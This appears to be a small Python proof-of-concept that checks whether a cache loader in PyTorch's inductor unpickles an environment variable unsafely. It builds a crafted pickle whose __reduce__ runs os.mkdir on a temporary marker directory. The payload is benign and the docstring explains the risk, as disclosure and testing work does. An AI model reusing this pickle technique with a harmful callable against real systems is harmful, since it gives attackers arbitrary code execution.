"""InMemoryCache.from_env_var runs pickle.loads on the decoded bytes, and unpickling can call any
importable function. A variable holding a crafted pickle therefore runs code when the cache is
loaded (here: os.mkdir of a marker directory). Whoever controls a process's environment usually
has other ways to run code, so the practical risk is modest, but it means the variable must be
treated as code, not data: never forward it from an untrusted source (CI matrix values, job
parameters). cachespec's SHOULD clause asks loaders to refuse every pickle global.
"""
import os
import pickle
import tempfile
from pathlib import Path

from torch._inductor.cache import CacheError, InMemoryCache


class RunsCode:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


with tempfile.TemporaryDirectory() as tmp:
    marker = Path(tmp) / "code-ran"
    os.environ["CACHESPEC_DEMO_CACHE"] = (
        f"{pickle.dumps('k')!r},{pickle.dumps(RunsCode(str(marker)))!r}")
    try:
        InMemoryCache.from_env_var("CACHESPEC_DEMO_CACHE")
        print("from_env_var returned normally")
    except CacheError as err:
        print("from_env_var raised CacheError:", err)
    print("marker directory created by the payload:", marker.is_dir())
    if marker.is_dir():
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
